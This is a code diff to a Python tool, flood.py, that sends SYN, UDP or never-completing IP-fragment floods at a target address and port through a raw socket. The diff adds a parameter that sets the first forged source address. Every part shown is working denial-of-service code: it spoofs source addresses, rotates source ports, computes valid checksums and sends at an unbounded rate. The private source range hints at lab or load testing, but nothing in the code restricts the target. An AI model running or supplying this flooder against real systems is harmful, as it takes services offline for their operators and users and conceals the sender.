@@ -1,11 +1,11 @@
 """A flood from forged addresses, through a raw socket.
 
-    python flood.py syn|udp|fragments ADDRESS PORT COUNT RATE CLIENTS
+    python flood.py syn|udp|fragments ADDRESS PORT COUNT RATE CLIENTS [FIRST]
 
 COUNT packets at RATE a second (0: as fast as it goes), the sources taken in turn from CLIENTS
-addresses of 10.128.0.0/9, each packet from another port than the address's one before.  What is
-sent back to those addresses must lead nowhere.  Fragments are first, middle and last ones of
-datagrams that never become whole.  Prints the packets sent and the seconds it took.
+addresses from FIRST on (10.128.0.1), each packet from another port than the address's one before.
+What is sent back to those addresses must lead nowhere.  Fragments are first, middle and last ones
+of datagrams that never become whole.  Prints the packets sent and the seconds it took.
 """
 
 import socket
@@ -14,7 +14,7 @@ import sys
 import time
 from collections.abc import Iterator
 
-FIRST = 10 << 24 | 128 << 16
+FIRST = "10.128.0.1"
 LOW, HIGH = 1024, 65535
 PART = 1400
 """Bytes of a datagram in a fragment."""
@@ -34,7 +34,7 @@ def words(data: bytes) -> int:
     return sum(struct.unpack(f"!{len(data) // 2}H", data))
 
 
-def packets(kind: str, to: bytes, port: int, count: int, clients: int) -> list[bytes]:
+def packets(kind: str, to: bytes, port: int, count: int, clients: int, first: int) -> list[bytes]:
     """All of them, with right transport checksums; the kernel fills in the header's (raw(7))."""
     proto = socket.IPPROTO_TCP if kind == "syn" else socket.IPPROTO_UDP
     if kind == "syn":
@@ -48,7 +48,7 @@ def packets(kind: str, to: bytes, port: int, count: int, clients: int) -> list[b
     fixed = words(to) + proto + size + port + words(rest)
     made = []
     for number in range(count):
-        source = FIRST + 1 + number % clients
+        source = first + number % clients
         sport = LOW + number // clients % (HIGH - LOW + 1)
         check = fold(fixed + (source >> 16) + (source & 0xFFFF) + sport)
         body = rest[:where] + check.to_bytes(2) + rest[where + 2 :]
@@ -56,19 +56,22 @@ def packets(kind: str, to: bytes, port: int, count: int, clients: int) -> list[b
     return made
 
 
-def fragments(to: bytes, port: int, count: int, clients: int) -> Iterator[bytes]:
+def fragments(to: bytes, port: int, count: int, clients: int, first: int) -> Iterator[bytes]:
     """Parts of datagrams of three, each of another datagram; made one by one, as they are large."""
     places = (0x2000, 0x2000 | PART // 8, 2 * PART // 8)  # RFC 791: more to come; offset by eight
     body = (struct.pack("!HHHH", LOW, port, 3 * PART, 0) + bytes(PART))[:PART]
     for number in range(count):
         place, ident = places[number % 3], number & 0xFFFF
         head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + PART, ident, place, 64, socket.IPPROTO_UDP, 0)
-        yield head + (FIRST + 1 + number % clients).to_bytes(4) + to + body
+        yield head + (first + number % clients).to_bytes(4) + to + body
 
 
-def main(kind: str, address: str, port: str, count: str, rate: str, clients: str) -> None:
+def main(
+    kind: str, address: str, port: str, count: str, rate: str, clients: str, first: str = FIRST
+) -> None:
     """Sends them."""
-    what = socket.inet_aton(address), int(port), int(count), int(clients)
+    began_at = int.from_bytes(socket.inet_aton(first))
+    what = socket.inet_aton(address), int(port), int(count), int(clients), began_at
     made = fragments(*what) if kind == "fragments" else packets(kind, *what)
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
         send, to, gap = sock.sendto, (address, 0), 1 / float(rate) if float(rate) else 0
